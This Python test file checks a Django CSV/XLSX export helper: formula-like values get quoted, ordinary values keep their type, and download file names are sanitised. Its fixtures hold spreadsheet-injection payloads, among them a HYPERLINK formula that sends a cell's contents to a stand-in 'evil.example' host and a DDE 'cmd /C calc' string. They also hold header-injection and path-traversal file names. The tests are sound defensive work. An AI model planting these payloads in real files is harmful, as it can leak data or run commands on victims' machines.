"""A table taken away stays what it was: text is text, numbers are numbers, and nothing in it runs."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.http import Http404
from openpyxl import load_workbook

from partners.exports import table_response

HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\x01=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
]


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def from_csv(rows, columns=("Name",)):
    response = table_response(name="Funds", columns=columns, rows=rows, kind="csv")
    text = body(response).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))[1:]


def from_xlsx(rows, columns=("Name",)):
    response = table_response(name="Funds", columns=columns, rows=rows, kind="xlsx")
    sheet = load_workbook(io.BytesIO(body(response))).active
    return list(sheet.iter_rows())[1:]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_quoted_in_both(text):
    assert from_csv([[text]])[0][0].startswith("'")
    (cell,) = from_xlsx([[text]])[0]
    assert cell.data_type == "s"
    assert cell.value.startswith("'")


def test_a_formula_as_a_heading_is_quoted():
    response = table_response(name="x", columns=["=1+1"], rows=[], kind="csv")
    assert "'=1+1" in body(response).decode()


@pytest.mark.parametrize(
    "text", ["Cloud webinar", "a = b", "3-5 people", "O'Neil", 'say "hi", twice', "Zürich", "#N/A"]
)
def test_plain_text_stays_as_it_is(text):
    assert from_csv([[text]]) == [[text]]
    (cell,) = from_xlsx([[text]])[0]
    assert (cell.value, cell.data_type) == (text, "s")


def test_numbers_and_days_keep_their_type():
    moment = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
    row = [Decimal("-1234.50"), 7, date(2026, 11, 30), moment, None, True]
    columns = list("abcdef")
    assert from_csv([row], columns) == [["-1234.50", "7", "2026-11-30", "2026-11-23 12:00:00", "", "yes"]]
    cells = from_xlsx([row], columns)[0]
    assert [cell.value for cell in cells[:2]] == [-1234.5, 7]
    assert cells[0].number_format == "#,##0.00"
    assert cells[2].is_date
    assert [str(cell.value) for cell in cells[2:4]] == ["2026-11-30 00:00:00", "2026-11-23 12:00:00"]


def test_a_day_before_the_calendar_of_excel_is_text():
    assert from_xlsx([[date(1066, 10, 14)]])[0][0].value == "1066-10-14"


def test_many_columns_and_a_long_name():
    columns = [f"Column {n}" for n in range(60)]
    assert len(from_xlsx([list(range(60))], columns)[0]) == 60
    response = table_response(name="[a]:*?/\\" * 20, columns=["x"], rows=[], kind="xlsx")
    assert load_workbook(io.BytesIO(body(response))).active.title


def test_csv_is_sent_while_it_is_read():
    read = []

    def rows():
        for number in range(3):
            read.append(number)
            yield [number]

    response = table_response(name="x", columns=["n"], rows=rows(), kind="csv")
    assert read == []
    chunks = iter(response.streaming_content)
    for _ in range(3):
        next(chunks)
    assert read == [0]


@pytest.mark.parametrize(
    ("name", "file"),
    [
        ("Funds of Brightpath", "funds-of-brightpath.csv"),
        ('x"; filename="evil.exe', "x-filenameevilexe.csv"),
        ("../../etc/passwd\r\nX: y", "etcpasswd-x-y.csv"),
        ("日本", "table.csv"),
    ],
)
def test_the_name_is_safe(name, file):
    response = table_response(name=name, columns=["x"], rows=[], kind="csv")
    assert response["Content-Disposition"] == f'attachment; filename="{file}"'


def test_another_kind_is_not_found():
    with pytest.raises(Http404):
        table_response(name="x", columns=["x"], rows=[], kind="exe")
